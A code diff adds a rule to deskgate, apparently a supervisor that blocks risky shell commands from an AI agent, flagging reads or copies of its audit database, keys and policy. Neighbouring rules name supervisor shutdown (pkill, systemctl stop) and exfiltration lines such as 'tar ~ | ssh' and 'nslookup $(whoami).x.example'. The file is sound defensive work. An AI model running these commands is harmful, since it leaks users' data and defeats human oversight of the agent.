@@ -1730,6 +1730,11 @@ RULES: tuple[Rule, ...] = (
           "`serve`, `run`, `revoke`, `log prune`, any verb not known to be harmless), stops deskgate (pkill, "
           "systemctl stop), or writes, deletes, moves or re-permissions deskgate's config, policy, kill state, "
           "socket or audit files (`[files] supervisor_paths` and the XDG directories)."),
+    _make("block.shell.supervisor-read", "reads deskgate's own files", Risk.CRITICAL,
+          "The agent prints, copies, archives, searches or opens deskgate's audit database (and its WAL), its "
+          "install key, chain head, kill state or policy (`cat`, `sqlite3`, `cp`, `tar`, `base64`, `< file`), "
+          "or copies, archives or searches a directory that holds them (`cp -r ~/.local/state`, `tar ~/.config`"
+          ", `grep -r x $XDG_STATE_HOME`). Listing or stat-ing them (`ls`, `stat`, `du`) passes."),
     _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
           "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
           "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
